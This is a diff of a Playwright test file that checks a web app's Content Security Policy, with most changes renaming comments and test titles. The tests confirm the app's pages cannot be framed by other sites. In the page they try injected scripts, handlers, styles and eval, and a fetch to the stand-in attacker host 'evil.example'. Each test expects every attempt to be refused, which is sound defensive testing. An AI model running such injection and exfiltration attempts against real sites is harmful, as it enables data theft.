@@ -5,10 +5,10 @@ import { journey } from './journey.ts'
 
 const refused = /Content Security Policy|frame-ancestors|TrustedHTML|TrustedScript|Trusted Types/
 
-// Where Chromium goes instead.
+// Address of Chromium’s error page for a blocked frame.
 const blocked = 'chrome-error://chromewebdata/'
 
-/** A site of somebody else's, on another origin, that shows ours in a frame. */
+/** Serves a page of another origin that frames the given URL. */
 async function framingSite(framed: string) {
   const server = createServer((_request, response) => {
     response.setHeader('content-type', 'text/html')
@@ -19,7 +19,7 @@ async function framingSite(framed: string) {
   return { url: `http://127.0.0.1:${port}/`, stop: () => server.close() }
 }
 
-/** What an attacker would try who can change the page, and what came of it. */
+/** Tries injections in the page. Returns the result of each attempt and the policy reports. */
 const attempts = `(async () => {
   const reports = []
   document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective))
@@ -34,24 +34,24 @@ const attempts = `(async () => {
   style.append('body { outline: 7px solid red }')
   document.head.append(style)
   const stolen = await fetch('https://evil.example/').then(() => 'sent', () => 'refused')
-  // By now this is no longer what the test itself has sent, which may evaluate.
+  // Delayed, because code that Playwright evaluates directly may use eval.
   const evaluated = await new Promise((resolve) =>
     setTimeout(() => resolve(tried(() => (0, eval)('window.taken = "eval"'))), 200))
   const { outlineStyle } = getComputedStyle(document.body)
   return { inline, foreign, html, handler, evaluated, stolen, outlineStyle, taken: window.taken ?? null, reports }
 })()`
 
-describe('the walls of the browser', () => {
-  journey('H02 our pages show in nobody’s frame', async ({ app, newContext, visit }) => {
+describe('Content Security Policy', () => {
+  journey('H02 blocks our pages in frames of other sites and of our own', async ({ app, newContext, visit }) => {
     for (const path of ['/', '/login', '/safety']) {
       const site = await framingSite(app.origin + path)
       const context = await newContext()
       const page = await context.newPage()
-      const said: string[] = []
-      page.on('console', (message) => said.push(message.text()))
+      const messages: string[] = []
+      page.on('console', (message) => messages.push(message.text()))
       await page.goto(site.url, { waitUntil: 'load' })
       expect(await page.title()).toBe('Somebody else')
-      await expect.poll(() => said.some((text) => /frame-ancestors/.test(text))).toBe(true)
+      await expect.poll(() => messages.some((text) => /frame-ancestors/.test(text))).toBe(true)
       const inside = page.frames().filter((frame) => frame !== page.mainFrame())
       expect(inside).toHaveLength(1)
       await expect.poll(() => inside[0]?.url()).toBe(blocked)
@@ -62,17 +62,20 @@ describe('the walls of the browser', () => {
     await expect.poll(() => own.frames().at(-1)?.url()).toBe(blocked)
   })
 
-  journey('H03 what is put into a page does not run', async ({ visit, aMember }) => {
-    const member = await aMember({}, { provoked: refused })
-    for (const page of [await visit('/', { provoked: refused }), member.page]) {
-      if (page === member.page) await page.goto('/dashboard')
-      await page.locator('main').first().waitFor()
-      const outcome = await page.evaluate<Record<string, unknown>>(attempts)
-      expect(outcome).toMatchObject({ taken: null, outlineStyle: 'none', stolen: 'refused', evaluated: 'EvalError' })
-      expect(outcome.html).toBe('TypeError')
-      expect(outcome.reports).toEqual(
-        expect.arrayContaining(['require-trusted-types-for', 'style-src-elem', 'connect-src']),
-      )
-    }
-  })
+  journey(
+    'H03 blocks injected scripts, handlers, styles, eval and requests to other origins',
+    async ({ visit, aMember }) => {
+      const member = await aMember({}, { provoked: refused })
+      for (const page of [await visit('/', { provoked: refused }), member.page]) {
+        if (page === member.page) await page.goto('/dashboard')
+        await page.locator('main').first().waitFor()
+        const outcome = await page.evaluate<Record<string, unknown>>(attempts)
+        expect(outcome).toMatchObject({ taken: null, outlineStyle: 'none', stolen: 'refused', evaluated: 'EvalError' })
+        expect(outcome.html).toBe('TypeError')
+        expect(outcome.reports).toEqual(
+          expect.arrayContaining(['require-trusted-types-for', 'style-src-elem', 'connect-src']),
+        )
+      }
+    },
+  )
 })
